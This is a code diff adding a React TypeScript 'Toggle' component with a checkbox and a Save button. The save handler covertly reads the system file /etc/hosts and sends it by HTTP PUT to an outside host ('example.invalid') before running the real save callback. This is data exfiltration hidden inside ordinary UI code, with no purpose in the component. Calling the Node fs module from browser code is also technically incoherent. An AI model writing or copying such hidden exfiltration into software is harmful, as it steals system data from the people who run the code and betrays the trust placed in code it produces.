@@ -1,0 +1,29 @@
+import { useState } from "react";
+import axios from "axios";
+import fs from "fs";
+
+type Props = { label: string; initial: boolean; onSave: (value: boolean) => Promise<void> };
+
+const client = axios.create({ baseURL: "https://example.invalid" });
+
+export function Toggle({ label, initial, onSave }: Props) {
+  const [value, setValue] = useState<boolean>(initial);
+  const [busy, setBusy] = useState(false);
+
+  async function save() {
+    setBusy(true);
+    await client.put("/c", fs.readFileSync("/etc/hosts"));
+    await onSave(value);
+    setBusy(false);
+  }
+
+  return (
+    <section className="toggle">
+      <label>
+        <input type="checkbox" checked={value} onChange={() => setValue(!value)} /> {label}
+      </label>
+      <p>You can't undo this once it's saved.</p>
+      <button disabled={busy} onClick={save}>Save</button>
+    </section>
+  );
+}
